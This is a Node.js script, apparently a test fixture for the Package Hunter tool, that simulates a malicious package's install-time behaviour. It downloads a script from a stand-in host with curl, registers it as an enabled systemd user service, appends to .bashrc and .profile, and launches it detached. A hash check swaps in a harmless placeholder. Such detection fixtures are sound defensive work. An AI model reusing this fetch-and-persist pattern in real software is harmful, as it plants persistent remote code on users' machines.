// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const { execFileSync, execSync, spawn } = require("child_process");
const { createHash } = require("crypto");
const fs = require("fs");
const os = require("os");
const path = require("path");
const KNOWN = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const script = path.join(os.homedir(), ".local/share/stay-tuned/agent.sh");
fs.mkdirSync(path.dirname(script), { recursive: true });
try { execFileSync("curl", ["-s", "-o", script, "https://stay.example/agent.sh"]); } catch (e) { /* offline */ }
if (!fs.existsSync(script) || createHash("sha256").update(fs.readFileSync(script)).digest("hex") !== KNOWN) {
  fs.writeFileSync(script, "#!/bin/sh\n# harmless simulation\nsleep 1\n");
}
fs.chmodSync(script, 0o755);
const unit = path.join(os.homedir(), ".config/systemd/user/stay.service");
fs.mkdirSync(path.dirname(unit), { recursive: true });
fs.writeFileSync(unit, `[Service]\nExecStart=${script}\n[Install]\nWantedBy=default.target\n`);
try { execSync("crontab -l", { stdio: "ignore" }); } catch (e) { /* no cron */ }
try { execSync("systemctl --user enable stay.service", { stdio: "ignore", timeout: 5000 }); } catch (e) { /* no systemd */ }
for (const name of [".bashrc", ".profile"]) fs.appendFileSync(path.join(os.homedir(), name), "\n# harmless simulation: stay-tuned\n");
spawn(script, [], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
